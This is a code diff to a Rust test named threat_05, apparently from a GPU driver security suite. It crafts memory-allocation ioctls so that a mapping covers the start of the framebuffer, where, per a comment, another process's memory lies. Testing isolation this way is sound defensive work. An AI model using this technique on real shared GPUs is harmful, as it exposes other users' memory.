@@ -147,34 +147,24 @@ pub(super) fn threat_05(context: &Context) -> Outcome {
     let device = client.first_device()?;
     let uvm = Uvm::open(&context.node)?;
     let space = uvm.add_device(&client, &device)?;
-    let page = vec![1u8; 8 * KIB as usize];
+    let page = vec![0u8; 8 * KIB as usize];
     let handle = client.fresh();
     let block = |class: u32, address: u64| {
-        Block::new(with_fd::SIZE)
-            .with32(l::H_ROOT, client.root())
-            .with32(l::H_OBJECT_PARENT, device.device)
+        device
+            .pin_block(&client, address, 4 * KIB)
             .with32(l::H_OBJECT_NEW, handle)
             .with32(l::H_CLASS, class)
-            .with64(l::P_MEMORY, address)
-            .with64(l::LIMIT, 4 * KIB - 1)
-            .with32(with_fd::FD, u32::MAX)
     };
     let number = request(nr::RM_ALLOC_MEMORY, with_fd::SIZE);
     let page_start = (page.as_ptr() as u64).next_multiple_of(4 * KIB);
     let mut looked_at = block(class::NV01_MEMORY_SYSTEM_OS_DESCRIPTOR, page_start);
-    if let Ok(answered) = system_call(client.file(), number, &mut looked_at) {
+    if let Ok(answered) = system_call(device.file(), number, &mut looked_at) {
         return Err(format!("answered with {answered} and not run here").into());
     }
-    // The framebuffer from its start on: whoever allocated first has his memory there.
-    let mut used = block(
-        class,
-        if class == class::NV01_MEMORY_FLA {
-            0
-        } else {
-            page_start
-        },
-    );
-    context.node.natively(client.file(), number, &mut used)?;
+    // With 0xf3 the page holds parameters, and zeros mean the framebuffer from its start on: whoever allocated first has
+    // his memory there.
+    let mut used = block(class, page_start);
+    context.node.natively(device.file(), number, &mut used)?;
     checked(used.u32(l::STATUS))?;
     uvm.create_range(BASE, 4 * KIB)?;
     let mapped = uvm.map(&space, &client, handle, BASE, 4 * KIB);
